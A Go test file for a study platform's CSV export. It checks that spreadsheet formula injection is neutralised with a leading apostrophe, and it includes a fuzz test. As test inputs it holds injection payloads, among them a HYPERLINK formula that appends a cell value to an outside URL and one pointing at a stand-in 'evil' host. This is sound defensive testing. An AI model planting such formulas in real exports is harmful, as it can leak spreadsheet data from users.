package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"feedlab/store"
)

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"":                            "",
		"hello":                       "hello",
		"=1+1":                        "'=1+1",
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
		"+1 (555) 0100":               "'+1 (555) 0100",
		"-2+3":                        "'-2+3",
		"@SUM(A1)":                    "'@SUM(A1)",
		"\t=1":                        "'\t=1",
		"\r=1":                        "'\r=1",
		"-":                           "'-",
		"-abc":                        "'-abc",
		"-3":                          "-3",
		"+2.5":                        "+2.5",
		"-1e-3":                       "-1e-3",
		"-.5":                         "-.5",
		"-1e":                         "'-1e",
		"- 3":                         "'- 3",
		"3=1":                         "3=1",
		"'=1":                         "'=1",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzNeutralise: the result never starts with a formula character unless it is a plain
// number (which a spreadsheet reads as a number), differs from the input by at most a
// leading apostrophe, and what is kept as a number parses as one.
func FuzzNeutralise(f *testing.F) {
	for _, s := range []string{"", "=1+1", "-3", "+2.5e10", "@x", "\tx", "\rx", "-", "-1e", "1e5", "abc", "-0x10", "+.e1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		got := Neutralise(v)
		if got != v && got != "'"+v {
			t.Fatalf("Neutralise(%q) = %q: more than an apostrophe changed", v, got)
		}
		if got != "" && formulaTrigger(got[0]) {
			if !plainNumber(got) {
				t.Fatalf("Neutralise(%q) = %q still starts with a formula character", v, got)
			}
			if _, err := strconv.ParseFloat(got, 64); err != nil && !strings.Contains(err.Error(), "range") {
				t.Fatalf("%q kept as a number but does not parse: %v", got, err)
			}
		}
		// The CSV writer passes the cell on unchanged (quoting aside).
		var b bytes.Buffer
		cw := csv.NewWriter(&b)
		sw := &safeWriter{cw: cw}
		if err := sw.Write([]string{"x", v}); err != nil {
			t.Fatal(err)
		}
		cw.Flush()
		recs, err := csv.NewReader(&b).ReadAll()
		if err == nil && len(recs) == 1 && len(recs[0]) == 2 && recs[0][1] != got && !strings.ContainsAny(v, "\r\n\"") {
			t.Fatalf("written cell %q, want %q", recs[0][1], got)
		}
	})
}

// TestExportsNeutraliseFormulasExceptParameters: a participant's formula answer and arrival
// parameter, and a stimulus covariate, are neutralised by default and kept with Raw;
// numbers stay numbers; experiment_parameters is raw either way (it must recreate the
// study).
func TestExportsNeutraliseFormulasExceptParameters(t *testing.T) {
	st, id := seeded(t)
	ctx := context.Background()
	p, err := st.Participant(ctx, id, "u1")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.RecordEvent(ctx, store.Event{Answers: []store.Answer{
		{EventID: "f1", ParticipantID: p.ParticipantID, Kind: store.AnswerKindAnswer, Field: "q", Response: "%3DHYPERLINK(%22http%3A%2F%2Fevil%2F%22)"},
		{EventID: "f2", ParticipantID: p.ParticipantID, Kind: store.AnswerKindAnswer, Field: "n", Response: "-3"},
	}}); err != nil {
		t.Fatal(err)
	}
	formulaStudy, err := st.CreateStudy(ctx, store.NewStudy{NConditions: 1, Params: []store.Param{{Condition: 1, Param: "title", Value: "=1+1"}}})
	if err != nil {
		t.Fatal(err)
	}
	export := func(typ string, raw bool) string {
		var b bytes.Buffer
		study := id
		if typ == TypeExperimentParameters {
			study = formulaStudy
		}
		if err := WriteWith(ctx, st, &b, typ, study, Options{Raw: raw}); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	safe, raw := export(TypeUserForm, false), export(TypeUserForm, true)
	if !strings.Contains(safe, `'=HYPERLINK(""http://evil/"")`) || strings.Contains(safe, `,=HYPERLINK`) {
		t.Fatalf("user_form not neutralised:\n%s", safe)
	}
	if !strings.Contains(raw, `,"=HYPERLINK(""http://evil/"")"`) && !strings.Contains(raw, `,=HYPERLINK(""http://evil/"")`) {
		t.Fatalf("raw user_form changed the value:\n%s", raw)
	}
	if !strings.Contains(safe, ",n,-3,") {
		t.Fatalf("a number lost its sign or became text:\n%s", safe)
	}
	for _, raw := range []bool{false, true} {
		if ps := export(TypeExperimentParameters, raw); !strings.Contains(ps, "1,title,=1+1\r\n") {
			t.Fatalf("experiment_parameters (raw=%v) must keep values as written:\n%s", raw, ps)
		}
	}
}
